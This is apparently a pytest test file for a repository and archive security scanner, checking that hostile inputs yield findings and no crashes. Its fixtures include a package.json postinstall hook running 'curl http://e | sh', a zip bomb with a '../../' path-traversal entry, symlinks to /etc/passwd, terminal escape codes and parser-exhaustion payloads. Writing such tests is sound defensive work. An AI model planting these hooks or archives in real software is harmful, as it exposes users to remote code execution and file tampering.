"""A hostile repository ends in findings and gaps: never in a crash, a hang, an escape code or a started program."""

import io
import json
import os
import tarfile
import zipfile

import pytest

from keepgate.model.finding import Severity
from keepgate.reports import terminal
from keepgate.scanner import archive, tree
from tests.scanner.beds import looked


def put(root, name, data):
    path = root / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data if isinstance(data, bytes) else data.encode())
    return path


def test_a_hostile_repository(tmp_path):
    put(
        tmp_path,
        ".mcp.json",
        '{"mcpServers": {"\\u001b[2Ja": {"command": "sh", "command": "x", "args": ["\\u001b]0;t\\u0007"]}}}',
    )
    put(tmp_path, "deep.json", '{"mcpServers": ' + "[" * 10_000)
    put(tmp_path, "bom.json", b"\xff\xfe" + '{"mcpServers": {"a": {"command": "x"}}}'.encode("utf-16-le"))
    put(tmp_path, "a/b/evil\x1b[31m.py", "import os\nexec(" * 3000)
    put(tmp_path, "SKILL.md", "x" * 300_000)
    put(
        tmp_path, "compose.yaml", "a: &a [1]\nservices: {mcp: {image: mcp, volumes: [" + "*a, " * 3000 + "]}}"
    )
    with open(tmp_path / "big.json", "wb") as file:
        file.write(b'{"mcpServers": {')
        file.truncate(200 * 1024 * 1024)
    os.symlink(tmp_path, tmp_path / "loop")
    os.symlink("/etc/passwd", tmp_path / "passwd.py")
    os.mkfifo(tmp_path / "pipe.json")
    report = looked(tmp_path)
    rules = {finding.rule for finding in report.findings}
    assert {"config.hidden-text", "config.duplicate-key", "config.too-large", "config.unreadable"} <= rules
    assert any("links" in gap.why for gap in report.gaps)
    assert not any("root:" in str(finding) for finding in report.findings)
    shown = terminal.render(report, verbose=True)
    assert all(sign.isprintable() or sign == "\n" for sign in shown)


def test_archives_are_read_within_bounds(tmp_path):
    bomb = tmp_path / "bomb.zip"
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as made:
        made.writestr("zeros.json", b"0" * (64 * 1024 * 1024))
        made.writestr("../../outside.py", "x")
        made.writestr(
            ".mcp.json", json.dumps({"mcpServers": {"a": {"command": "python", "args": ["-c", "exec(x)"]}}})
        )
    report = looked(bomb)
    found = {finding.rule: finding for finding in report.findings}
    assert {"archive.escapes", "config.inline-code"} <= set(found)
    assert found["config.inline-code"].location.file == f"{bomb}!/.mcp.json"
    assert any("too large" in gap.why for gap in report.gaps)


def test_links_and_devices_in_archives_are_left_out(tmp_path):
    path = tmp_path / "a.tgz"
    with tarfile.open(path, "w:gz") as made:
        link = tarfile.TarInfo("link.py")
        link.type, link.linkname = tarfile.SYMTYPE, "/etc/passwd"
        made.addfile(link)
        info = tarfile.TarInfo("package/package.json")
        body = json.dumps({"name": "x", "scripts": {"postinstall": "curl http://e | sh"}}).encode()
        info.size = len(body)
        made.addfile(info, io.BytesIO(body))
    report = looked(path)
    assert [(each.rule, each.severity) for each in report.findings] == [
        ("package.install-script", Severity.HIGH)
    ]
    assert any("links" in gap.why for gap in report.gaps)


@pytest.mark.parametrize(
    "body", [b"", b"PK\x03\x04", b"\x1f\x8b\x08", os.urandom(200), b"PK\x05\x06" + bytes(18)]
)
@pytest.mark.parametrize("name", ["x.zip", "x.tgz", "x.mcpb"])
def test_broken_archives_are_a_gap(tmp_path, name, body):
    path = put(tmp_path, name, body)
    assert not list(archive.Archive(path).members())
    assert looked(path).gaps


def test_trees_are_bounded(tmp_path, monkeypatch):
    monkeypatch.setattr(tree, "MAX_FILES", 5)
    for number in range(9):
        put(tmp_path, f"{number}.py", "x")
    inside = tree.Tree(tmp_path)
    assert len(list(inside.files())) == 5
    assert inside.left_out
